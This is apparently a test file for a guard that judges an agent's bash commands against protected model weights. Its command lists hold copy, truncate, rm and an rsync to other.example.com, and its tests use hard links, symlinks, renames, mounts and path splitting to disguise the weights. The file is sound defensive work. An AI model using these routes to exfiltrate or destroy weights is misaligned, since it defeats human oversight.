"""Work in large trees is let through, and what an asset is called in one is found however deep it lies."""

from __future__ import annotations

import os
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from guardrail.assets import LiveFiles
from guardrail.assets._asset import own_asset
from guardrail.assets._index import AssetIndex
from guardrail.assets._look import Look
from guardrail.assets._mounts import Mounts, _parsed
from guardrail.assets._places import locate, walk_files
from guardrail.assets._trees import Named, Trees, Unseen
from guardrail.guard import Guard
from guardrail.model import Outcome, ToolCall
from tests.identity_support import safetensors, weights
from tests.mandate_support import mandated

CONFIG = """
[[asset]]
id = "model:beta"
class = "weights"
paths = ["models"]
[trail]
directory = "state/trail"
timeout_seconds = 60
[limits]
decision_ms = 60000
"""
PACKAGES = 140
FILES = 18


@pytest.fixture
def world(tmp_path: Path) -> Path:
    """A model, and beside it a project with more packages in it than anybody looks at one by one."""
    base = tmp_path.resolve()
    (base / "models").mkdir()
    (base / "models/beta.safetensors").write_bytes(os.urandom(5000))
    for number in range(PACKAGES):
        folder = base / f"project/node_modules/pkg{number}/lib"
        folder.mkdir(parents=True)
        for name in range(FILES):
            os.close(os.open(folder / f"f{name}.js", os.O_CREAT | os.O_WRONLY))
    (base / "project/src/__pycache__").mkdir(parents=True)
    (base / "guardrail.toml").write_text(CONFIG)
    return base


@pytest.fixture
def guard(world: Path) -> Iterator[Guard]:
    """The guard of that world."""
    with Guard.open(world / "guardrail.toml", record=False) as opened:
        yield opened


@pytest.fixture
def deep(world: Path) -> Path:
    """A directory far down in the tree."""
    return world / f"project/node_modules/pkg{PACKAGES - 1}/lib"


def outcome(guard: Guard, world: Path, command: str) -> Outcome:
    """What is said to a command in the project."""
    where = str(world / "project")
    return guard.check(ToolCall(tool="bash", args={"command": command}, cwd=where, session=command)).outcome


HARMLESS = (
    "find . -name '__pycache__' -type d -prune -exec rm -rf {} +",
    "find . -name '*.pyc' -delete",
    "find . -name node_modules -type d -prune -exec rm -rf {} +",
    "git ls-files -o | xargs rm -f",
    "find . -name '*.js' -not -path './node_modules/*' -exec sed -i 's/a/b/' {} +",
    "git diff --name-only main...HEAD | grep '\\.py$' | xargs -r ruff check",
    "grep -rl oldName . | xargs sed -i 's/oldName/newName/g'",
    "find . -name '*.js' -mmin +60 -exec chmod u+w {} +",
    "cp -r . /tmp/copy-of-it",
    "rsync -aL ./ /tmp/copy-of-it/",
)
"""What people do in such trees every day."""

TAKING = (
    "find . -type f -exec cp {} /tmp/out \\;",
    "find . -name '*.txt' -exec mv {} /tmp/out \\;",
    "find . -name '*.txt' -exec sed -i s/a/b/ {} +",
    "find . -name '*.txt' -exec truncate -s 0 {} +",
    "find . -name lib -exec cp -r {} /tmp/out \\;",
    "git ls-files -o | xargs -I{} cp {} /tmp/out",
    "cp -r . /tmp/out",
    "tar cf /tmp/out.tar .",
    "rsync -a ./ other.example.com:/srv/",
)
"""What reaches a file of another name far down in the tree."""


def test_harmless_work_in_a_large_tree_is_let_through(guard: Guard, world: Path) -> None:
    """Whether it is the first look or one that knows the tree."""
    for _ in range(2):
        assert {line: outcome(guard, world, line) for line in HARMLESS} == dict.fromkeys(HARMLESS, Outcome.ALLOW)


def test_what_deletes_by_a_pattern_is_told_the_same_however_it_is_written(guard: Guard, world: Path) -> None:
    """Names that a shell would cut are one name to both."""
    (world / "project/src/a b[1].pyc").touch()
    (world / "project/src/[slug].pyc").touch()
    for line in ("find . -name '*.pyc' -delete", "find . -name '*.pyc' -exec rm -f {} +"):
        assert outcome(guard, world, line) is Outcome.ALLOW


@pytest.mark.parametrize("line", TAKING)
def test_a_hard_link_deep_in_a_large_tree_is_the_model(guard: Guard, world: Path, deep: Path, line: str) -> None:
    """It is made while the guard runs and has looked at the tree already."""
    assert outcome(guard, world, line) is Outcome.ALLOW
    os.link(world / "models/beta.safetensors", deep / "notes.txt")
    assert outcome(guard, world, line) is not Outcome.ALLOW


@pytest.mark.parametrize("line", TAKING)
def test_a_model_that_was_moved_into_a_large_tree_is_still_the_model(
    guard: Guard, world: Path, deep: Path, line: str
) -> None:
    """Its files have one name each, and not the one that was declared."""
    os.rename(world / "models/beta.safetensors", deep / "notes.txt")
    assert outcome(guard, world, line) is not Outcome.ALLOW


@pytest.mark.parametrize(
    "line",
    [
        "find -L . -name '*.txt' -exec cp {} /tmp/out \\;",
        "find . -name '*.txt' -exec cp {} /tmp/out \\;",
        "find . -name '*.txt' -exec truncate -s 0 {} +",
        "git ls-files -o | xargs truncate -s 0",
        "rsync -aL ./ /tmp/out/",
        "cp -rL . /tmp/out",
        "tar chf /tmp/out.tar .",
    ],
)
def test_a_link_that_is_put_into_a_large_tree_between_two_calls_is_followed(
    guard: Guard, world: Path, deep: Path, line: str
) -> None:
    """What was seen of the directory before does not count."""
    outcome(guard, world, line)
    (deep / "notes.txt").symlink_to(world / "models/beta.safetensors")
    assert outcome(guard, world, line) is not Outcome.ALLOW


def test_links_behind_links_are_followed_where_the_command_follows_them(
    guard: Guard, world: Path, deep: Path, tmp_path: Path
) -> None:
    """The tree leads to a directory outside, and that to the model."""
    (tmp_path / "elsewhere/sub").mkdir(parents=True)
    (deep / "way").symlink_to(tmp_path / "elsewhere")
    assert outcome(guard, world, "rsync -aL ./ /tmp/out/") is Outcome.ALLOW
    (tmp_path / "elsewhere/sub/back").symlink_to(world / "project")
    (tmp_path / "elsewhere/sub/on").symlink_to(world / "models")
    assert outcome(guard, world, "rsync -aL ./ /tmp/out/") is not Outcome.ALLOW
    assert outcome(guard, world, "rsync -a ./ /tmp/out/") is Outcome.ALLOW


def test_what_removes_links_reaches_nothing_through_them(guard: Guard, world: Path, deep: Path) -> None:
    """The model stays where it is."""
    (deep / "notes.txt").symlink_to(world / "models/beta.safetensors")
    assert outcome(guard, world, "find . -name '*.txt' -exec rm -f {} +") is Outcome.ALLOW
    assert outcome(guard, world, "find . -name '*.txt' -delete") is Outcome.ALLOW


def test_a_model_that_is_mounted_in_a_large_tree_is_found_by_both_its_names(
    guard: Guard, world: Path, deep: Path
) -> None:
    """By that of the mount, and by those of its files."""
    (deep / "here").mkdir()
    done = subprocess.run(["mount", "--bind", world / "models", deep / "here"], capture_output=True, check=False)
    if done.returncode:
        pytest.skip("this host lets nobody mount here")
    try:
        assert outcome(guard, world, "find . -name '*.safetensors' -exec rm {} +") is not Outcome.ALLOW
        assert outcome(guard, world, "find . -name here -exec rm -rf {} +") is not Outcome.ALLOW
        assert outcome(guard, world, "find . -name here -exec chmod 700 {} +") is not Outcome.ALLOW
        assert outcome(guard, world, "find . -name '*.pyc' -exec rm {} +") is Outcome.ALLOW
    finally:
        subprocess.run(["umount", deep / "here"], check=True)


def test_what_was_made_of_a_model_is_found_in_a_large_tree(world: Path) -> None:
    """One session packs it under an order, and another takes whatever it finds."""
    target = f"{world}/project/**"
    mandated(world, CONFIG, {"effects": ["copy"], "assets": ["model:beta"], "targets": [target]})
    made = f"cp ../models/beta.safetensors node_modules/pkg{PACKAGES - 1}/lib/notes.txt"
    with Guard.open(world / "guardrail.toml") as guard:
        assert outcome(guard, world, made) is Outcome.ALLOW
        subprocess.run(made, shell=True, check=True, cwd=world / "project")
    with Guard.open(world / "guardrail.toml") as guard:
        assert outcome(guard, world, "find . -name '*.txt' -exec mv {} /tmp/out \\;") is not Outcome.ALLOW
        assert outcome(guard, world, "cp -r . /tmp/out") is not Outcome.ALLOW
        assert outcome(guard, world, "find . -name '*.pyc' -exec rm {} +") is Outcome.ALLOW


def test_a_copy_that_is_known_by_its_content_is_found_in_a_large_tree(world: Path, deep: Path) -> None:
    """It lies behind more names than were looked at before."""
    from guardrail.cli import main

    safetensors(world / "models/beta.safetensors", weights(5, 3))
    assert main(["assets", "register", "--config", str(world / "guardrail.toml")]) == 0
    with Guard.open(world / "guardrail.toml", record=False) as guard:
        assert outcome(guard, world, "cp -r . /tmp/out") is Outcome.ALLOW
        (deep / "notes.txt").write_bytes((world / "models/beta.safetensors").read_bytes())
        assert outcome(guard, world, "cp -r . /tmp/out") is Outcome.DENY


@pytest.mark.parametrize(
    "line",
    [
        "find . -type f | xargs rm",
        "find . -exec sh -c 'rm $0' {} \\;",
        "find . -exec bash -c 'for f in $1; do rm $f; done' _ {} \\;",
        "git ls-files -o | xargs rm",
        "for f in $(find . -type f); do rm $f; done",
        "PATH=/tmp/mine:$PATH; find . -exec rm {} +",
    ],
)
def test_a_name_that_a_shell_would_cut_could_be_any_path(guard: Guard, world: Path, deep: Path, line: str) -> None:
    """`x /srv/models/beta` below a directory is three names to whoever splits it, the last of them the model's."""
    cut = deep / f"x {world}/models"
    cut.mkdir(parents=True)
    (cut / "beta.safetensors").touch()
    assert outcome(guard, world, line) is not Outcome.ALLOW


def test_a_tree_over_the_bound_is_a_question_and_the_next_call_is_asked_anew(
    guard: Guard, world: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Not having looked far enough holds for that call and for nobody else."""
    lines = ["git ls-files -o | xargs rm -f", "find . -name '*.js' -exec truncate -s 0 {} +", "rsync -aL ./ /tmp/out/"]
    with monkeypatch.context() as patch:
        patch.setattr("guardrail.assets._trees.MAX_LOOKED", 500)
        assert [outcome(guard, world, line) for line in lines] == [Outcome.ESCALATE] * 3
        # What follows no link needs no look: all the model's files are where they were declared.
        assert outcome(guard, world, "find . -name '*.js' -exec rm {} +") is Outcome.ALLOW
    assert [outcome(guard, world, line) for line in lines] == [Outcome.ALLOW] * 3


def test_a_tree_over_the_bound_is_a_question_while_a_file_of_the_model_has_a_second_name(
    guard: Guard, world: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Of which it is not known whether it lies there."""
    os.link(world / "models/beta.safetensors", tmp_path / "elsewhere")
    lines = ["find . -name '*.js' -exec rm {} +", "cp -r . /tmp/out"]
    assert [outcome(guard, world, line) for line in lines] == [Outcome.ALLOW] * 2
    monkeypatch.setattr("guardrail.assets._trees.MAX_LOOKED", 500)
    assert [outcome(guard, world, line) for line in lines] == [Outcome.ESCALATE] * 2
    monkeypatch.setattr("guardrail.assets._index.MAX_COUNTED", 0)
    assert [outcome(guard, world, line) for line in lines] == [Outcome.ESCALATE] * 2


def test_a_directory_too_deep_for_a_path_is_not_taken_for_empty(guard: Guard, world: Path, deep: Path) -> None:
    """`find` goes there name by name."""
    here = os.open(deep, os.O_RDONLY)
    try:
        for _ in range(30):
            os.mkdir("d" * 200, dir_fd=here)
            below = os.open("d" * 200, os.O_RDONLY, dir_fd=here)
            os.close(here)
            here = below
        os.symlink(world / "models/beta.safetensors", "notes.txt", dir_fd=here)
    finally:
        os.close(here)
    assert outcome(guard, world, "find . -name '*.txt' -exec truncate -s 0 {} +") is Outcome.ESCALATE
    assert outcome(guard, world, "git ls-files -o | xargs rm -f") is Outcome.ESCALATE


def test_the_files_of_assets_are_looked_at_only_for_a_tree_that_may_hold_one(
    guard: Guard, world: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A few files with one name each are no asset's; a second name of the model, or the model itself, is found.

    It is a filesystem whose directories do not tell which files they name.
    """
    monkeypatch.setattr(Mounts, "is_numbered", lambda *_: False)
    looked: list[str] = []
    look = AssetIndex.strays

    def counted(index: AssetIndex) -> frozenset[int] | None:
        looked.append("")
        return look(index)

    monkeypatch.setattr(AssetIndex, "strays", counted)
    few, other = world / "project/src", world / "project/docs"
    other.mkdir()
    (few / "app.js").touch()
    line = "cp -r src docs /tmp/out"
    assert (outcome(guard, world, line), len(looked)) == (Outcome.ALLOW, 0)
    os.link(few / "app.js", other / "twin.js")
    assert (outcome(guard, world, line), len(looked)) == (Outcome.ALLOW, 1)  # once for both directories
    os.link(world / "models/beta.safetensors", other / "notes.txt")
    assert outcome(guard, world, line) is not Outcome.ALLOW
    (other / "notes.txt").unlink()
    assert outcome(guard, world, line) is Outcome.ALLOW
    os.rename(world / "models/beta.safetensors", few / "notes.txt")
    assert outcome(guard, world, line) is not Outcome.ALLOW


def put_nothing(_model: Path, _tree: Path) -> None:
    """All files lie where they were declared."""


def put_link(model: Path, tree: Path) -> None:
    """A second name of a file of the model."""
    os.link(model, tree / "src/notes.txt")


def put_twin(model: Path, _tree: Path) -> None:
    """A second name beside the first."""
    os.link(model, model.with_name("twin.safetensors"))


def put_away(model: Path, tree: Path) -> None:
    """The file itself under another name."""
    os.rename(model, tree / "src/notes.txt")


def put_further(model: Path, tree: Path) -> None:
    """A second name of a file that came to the model after the guard had begun."""
    later = model.with_name("later.safetensors")
    later.write_bytes(b"later")
    os.link(later, tree / "src/notes.txt")


def put_settings(_model: Path, tree: Path) -> None:
    """A second name of what the guard reads."""
    os.link(tree.parent / "guardrail.toml", tree / "src/notes.txt")


def put_stranger(_model: Path, tree: Path) -> None:
    """A file of the project with two names."""
    (tree / "src/a").touch()
    os.link(tree / "src/a", tree / "src/b")


@pytest.mark.parametrize("within", [False, True], ids=["beside", "within"])
@pytest.mark.parametrize(
    "put",
    [put_nothing, put_link, put_twin, put_away, put_further, put_settings, put_stranger],
    ids=lambda put: put.__name__,
)
def test_directories_tell_the_same_of_a_tree_as_a_look_at_every_file(
    guard: Guard, world: Path, put: Callable[[Path, Path], None], within: bool, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Whether the model lies beside the tree or in it, and before and after a file gets another name."""
    monkeypatch.setattr("guardrail.assets._trees.SETTLED_NS", -10_000_000_000)
    beneath = guard.inventory._beneath
    here = str(world if within else world / "project")

    def found() -> list[str]:
        return sorted(path for path, _ in beneath.strayed(here, Look()))

    def both() -> tuple[list[str], list[str]]:
        told = found()
        with monkeypatch.context() as patch:
            patch.setattr(Mounts, "is_numbered", lambda *_: False)
            beneath.trees._kept.clear()
            looked = found()
        beneath.trees._kept.clear()
        return told, looked

    assert both() == ([], [])
    put(world / "models/beta.safetensors", world / "project")
    told, looked = both()
    assert told == looked
    assert bool(told) is (put not in (put_nothing, put_stranger) and (within or put is not put_twin))


def test_of_a_tree_of_many_directories_the_files_of_assets_are_asked_at_once(
    guard: Guard, world: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Which costs less, from the second time on; and a second name is found there as well."""
    monkeypatch.setattr("guardrail.assets._trees.MAX_APART", 20)
    asked: list[str] = []
    ask = Trees.is_apart

    def counted(trees: Trees, root: str, files: Named) -> bool | None:
        asked.append(root)
        return ask(trees, root, files)

    monkeypatch.setattr(Trees, "is_apart", counted)
    assert [outcome(guard, world, "cp -r . /tmp/out") for _ in range(3)] == [Outcome.ALLOW] * 3
    assert len(asked) == 1
    os.link(world / "models/beta.safetensors", world / "project/src/notes.txt")
    assert outcome(guard, world, "cp -r . /tmp/out") is not Outcome.ALLOW


def test_a_tree_that_once_held_more_is_looked_at_as_well_as_any(
    guard: Guard, world: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """How many files there were says only what is tried first."""
    monkeypatch.setattr("guardrail.assets._beneath.MAX_FEW", 3)
    monkeypatch.setattr("guardrail.assets._beneath.MAX_KNOWN_MANY", 1)
    few, other = world / "project/src", world / "project/docs"
    other.mkdir()
    for number in range(5):
        (few / f"f{number}").touch()
        (other / f"f{number}").touch()
    line = "cp -r src docs /tmp/out"
    assert outcome(guard, world, line) is Outcome.ALLOW
    os.link(world / "models/beta.safetensors", few / "notes.txt")
    assert outcome(guard, world, line) is not Outcome.ALLOW
    for number in range(5):
        (few / f"f{number}").unlink()
    assert outcome(guard, world, line) is not Outcome.ALLOW
    (few / "notes.txt").unlink()
    assert outcome(guard, world, line) is Outcome.ALLOW


def test_files_are_walked_as_the_standard_library_walks_them(tmp_path: Path) -> None:
    """In its order, which says which are looked at where there are too many; links are not followed."""
    for name in ("b/c", "a/d/e", "a/f"):
        (tmp_path / name).mkdir(parents=True)
        for number in range(3):
            (tmp_path / name / f"x{number}").touch()
    (tmp_path / "a/link").symlink_to(tmp_path / "b")
    (tmp_path / "a/gone").symlink_to("nowhere")
    os.mkfifo(tmp_path / "a/pipe")
    paths = [os.path.join(folder, name) for folder, _, names in os.walk(tmp_path) for name in names]
    plain = [path for path in paths if os.path.isfile(path) and not os.path.islink(path)]
    assert len(plain) == 9
    assert [path for path, _ in walk_files(str(tmp_path), 100)] == plain
    assert [path for path, _ in walk_files(str(tmp_path), 4)] == plain[:4]
    assert [path for path, _ in walk_files(plain[0], 4)] == plain[:1]
    assert list(walk_files(f"{tmp_path}/nothing", 4)) == []


def test_in_which_asset_a_directory_lies_is_asked_anew_when_one_is_taken_in(tmp_path: Path) -> None:
    """It is kept by name, and only what is declared changes it."""
    index = AssetIndex()
    (tmp_path / "a/b").mkdir(parents=True)
    (tmp_path / "a/b/f").touch()
    place, deep = locate(str(tmp_path / "a/b/f")), locate(str(tmp_path / "a/b/new/er"))
    assert [index.at(place), index.at(deep)] == [None, None]
    for number, name in enumerate(("a", "a/b")):
        root = str(tmp_path / name)
        index.add(own_asset(f"asset:{number}", [root]), [root], [locate(root)])
        assert [index.at(place), index.at(deep)] == [f"asset:{number}"] * 2


def changed(folder: Path, change: Callable[[], object]) -> None:
    """Make a change, once the kernel's clock has moved on from the last one."""
    before = os.stat(folder).st_ctime_ns
    probe = folder.parent / "clock"
    while True:
        probe.touch()
        os.utime(probe)
        if os.stat(probe).st_ctime_ns > before:
            break
    change()


def test_what_is_kept_of_a_directory_is_given_up_when_it_changes(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A name that comes, goes, or comes to be a link; whatever date the agent gives the directory."""
    monkeypatch.setattr("guardrail.assets._trees.SETTLED_NS", -10_000_000_000)
    trees, sub = Trees(), tmp_path / "a/sub"
    sub.mkdir(parents=True)
    (sub / "plain").touch()
    if not Mounts().is_dated(os.stat(sub).st_dev):
        pytest.skip("nothing is kept of directories on this filesystem")
    root = str(tmp_path / "a")
    assert (trees.odd(root), list(trees.links(root))) == (False, [])
    dated = os.stat(sub)
    changed(sub, lambda: (sub / "link").symlink_to("/srv"))
    os.utime(sub, ns=(dated.st_atime_ns, dated.st_mtime_ns))
    assert list(trees.links(root)) == [f"{sub}/link"]
    changed(sub, (sub / "o d d").touch)
    assert trees.odd(root)
    changed(sub, (sub / "o d d").unlink)
    assert not trees.odd(root)
    changed(sub, lambda: os.rename(sub, tmp_path / "other"))
    assert list(trees.links(root)) == []


def test_what_a_directory_holds_is_listed_anew_when_it_changed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Also where only what a link leads to did, which the directory does not show; a circle and a pipe are files."""
    monkeypatch.setattr("guardrail.assets._listings.SETTLED_NS", -10_000_000_000)
    files, top = LiveFiles(), tmp_path / "a[b]"
    (top / "sub").mkdir(parents=True)
    (top / "x").touch()
    (top / ".hidden").touch()
    assert files.listing(str(top)) == ((f"{top}/x",), (f"{top}/sub",), False)
    kept = files._listings._kept
    assert list(kept) == [str(top)] or not Mounts().is_dated(os.stat(top).st_dev)
    changed(top, lambda: (top / "link").symlink_to(tmp_path / "later"))
    assert files.listing(str(top)) == ((f"{top}/link", f"{top}/x"), (f"{top}/sub",), True)
    (tmp_path / "later").mkdir()
    assert files.listing(str(top)) == ((f"{top}/x",), (f"{top}/link", f"{top}/sub"), True)
    changed(top, lambda: (top / "circle").symlink_to("circle"))
    os.mkfifo(top / "pipe")
    assert files.listing(str(top)) == (tuple(f"{top}/{name}" for name in ("circle", "pipe", "x")), (
        f"{top}/link", f"{top}/sub"), True)  # fmt: skip
    assert files.listing(str(tmp_path / "absent"))[:2] == ((), ())
    monkeypatch.setattr("guardrail.assets._listings.MAX_LISTED", 3)
    assert files.listing(str(top)) is None


def test_of_a_directory_that_changed_just_now_nothing_is_kept(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The next change may get the same date."""
    trees = Trees()
    (tmp_path / "fresh").mkdir()
    assert not trees.odd(str(tmp_path / "fresh"))
    assert not trees._kept
    monkeypatch.setattr("guardrail.assets._trees.SETTLED_NS", -10_000_000_000)
    monkeypatch.setattr("guardrail.assets._trees.MAX_KEPT_FOLDERS", 1)
    assert not trees.odd(str(tmp_path))
    assert len(trees._kept) <= 1


def test_a_look_ends_by_the_clock_where_a_disk_hangs(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """And is no answer then."""
    monkeypatch.setattr("guardrail.assets._trees.MAX_LOOK_SECONDS", -1.0)
    (tmp_path / "a").touch()
    with pytest.raises(Unseen):
        Trees().odd(str(tmp_path))
    assert LiveFiles().plain(str(tmp_path)) is False


def test_filesystems_of_servers_and_programs_are_not_taken_at_their_word() -> None:
    """Their dates and numbers are what somebody says."""
    mounts = Mounts()
    lines = (
        "1 0 8:1 / / rw - ext4 d rw\n2 0 0:9 / /n rw shared:1 master:2 - nfs4 d rw\n3 0 0:8 / /o rw - overlay d rw\n"
    )
    mounts._kinds = {mount.device: mount.kind for _, mount in _parsed(lines)}
    numbers = [os.makedev(8, 1), os.makedev(0, 9), os.makedev(0, 8), os.makedev(0, 7)]
    assert [mounts.is_dated(number) for number in numbers] == [True, False, True, False]
    assert [mounts.is_numbered(number) for number in numbers] == [True, False, False, False]


def test_numbers_of_files_find_them_with_and_without_the_filesystem_s_help(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Asked of each file, or read with the names."""
    (tmp_path / "sub").mkdir()
    for name in ("a", "sub/b", "sub/c"):
        (tmp_path / name).touch()
    number = locate(str(tmp_path / "sub/b")).ino
    assert number is not None
    for told in (True, False):
        monkeypatch.setattr(Mounts, "is_numbered", lambda *_, told=told: told)
        assert [path for path, _ in Trees().files(str(tmp_path), {number})] == [f"{tmp_path}/sub/b"]
        assert len(list(Trees().files(str(tmp_path)))) == 3
